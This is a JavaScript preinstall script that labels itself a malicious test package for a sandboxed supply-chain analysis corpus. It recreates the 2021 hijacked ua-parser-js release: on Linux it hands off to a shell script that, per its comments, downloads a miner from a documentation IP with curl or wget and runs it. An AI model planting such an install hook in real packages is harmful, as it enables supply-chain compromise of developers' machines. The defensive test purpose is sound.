'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The technique of the hijacked ua-parser-js 0.7.29, coa 2.0.3 and rc 1.2.9
// releases (Oct/Nov 2021), rewritten from the public write-ups: a preinstall
// looks at the operating system and, on Linux, hands over to a shell script
// that fetches a "miner" with curl (wget if there is no curl) into /tmp,
// makes it executable and starts it with miner flags. Here the download is
// from a documentation address (198.51.100.61); in the sandbox the HTTP sink
// answers with a harmless `#!/bin/sh` stand-in. Prints `mal-uaparser-miner:
// step N ...`; exits 0 whatever fails, after 5 s at the latest.
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

const say = (msg) => console.log(`mal-uaparser-miner: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

const platform = os.platform();
say(`step 1 platform ${platform} ${os.arch()}`);
if (platform !== 'linux') {
  // The real package fetched a password-stealing DLL on Windows; not here.
  say('step 1 not Linux: nothing to do');
  process.exit(0);
}
execFile('sh', [path.join(__dirname, 'preinstall.sh')], { timeout: 4000 }, (err, stdout, stderr) => {
  process.stdout.write(stdout);
  if (stderr) process.stdout.write(`mal-uaparser-miner: stderr ${JSON.stringify(String(stderr).slice(0, 200))}\n`);
  say(`step 5 preinstall.sh ended: ${err ? errText(err) : 'exit 0'}`);
  process.exit(0);
});
